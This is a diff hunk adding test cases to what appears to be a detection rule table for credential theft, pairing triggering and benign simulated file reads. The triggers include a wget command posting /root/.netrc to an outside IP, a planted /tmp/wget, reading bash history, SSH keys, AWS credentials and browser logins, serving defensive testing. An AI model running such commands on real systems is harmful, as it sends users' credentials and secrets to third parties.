@@ -131,6 +131,14 @@ export const CASES: RuleCase[] = [
   { id: 'ST-CRD-002', trigger: (s) => s.open(1, '/home/user/.ssh/id_ed25519', O.r), benign: (s) => s.open(1, '/home/user/.ssh/id_ed25519.pub', O.r) },
   { id: 'ST-CRD-003', trigger: (s) => s.open(1, '/home/user/.aws/credentials', O.r), benign: (s) => s.open(1, '/home/user/.config/app.conf', O.r) },
   { id: 'ST-CRD-004', trigger: (s) => s.open(1, '/root/.ssh/id_rsa', O.r), benign: (s) => s.open(1, '/root/.ssh/config', O.r, -2) },
+  // programs that read their own: wget its ~/.netrc, an interactive bash its history; not when the
+  // sample names the file, reads it with another program, or wrote the program
+  { id: 'ST-CRD-003', trigger: (s) => s.open(s.run('/usr/bin/wget', ['wget', '--post-file=/root/.netrc', 'http://203.0.113.9/']), '/root/.netrc', O.r),
+    benign: (s) => s.open(s.run('/usr/bin/wget', ['wget', 'http://203.0.113.9/x']), '/root/.netrc', O.r) },
+  { id: 'ST-CRD-004', trigger: (s) => { s.open(1, '/tmp/wget', O.w); s.open(s.run('/tmp/wget', ['wget', 'http://203.0.113.9/x']), '/root/.netrc', O.r); },
+    benign: (s) => s.open(s.run('/usr/bin/wget', ['wget', 'http://203.0.113.9/x']), '/root/.netrc', O.r) },
+  { id: 'ST-CRD-004', trigger: (s) => s.open(s.run('/usr/bin/cat', ['cat', '/root/.bash_history']), '/root/.bash_history', O.r),
+    benign: (s) => s.open(s.run('/usr/bin/bash', ['bash', '-i']), '/root/.bash_history', O.r) },
   { id: 'ST-CRD-005', trigger: (s) => s.open(1, '/home/user/.mozilla/firefox/x.default/logins.json', O.r), benign: (s) => s.open(1, '/home/user/Documents/list.json', O.r) },
   { id: 'ST-CRD-006', trigger: (s) => s.run('/usr/bin/grep', ['grep', '-ri', 'password', '/etc']), benign: (s) => s.run('/usr/bin/grep', ['grep', '-c', 'error', 'app.log']) },
   { id: 'ST-CRD-007', trigger: (s) => s.open(1, '/proc/42/mem', O.r), benign: (s) => s.open(1, '/proc/self/mem', O.r) },
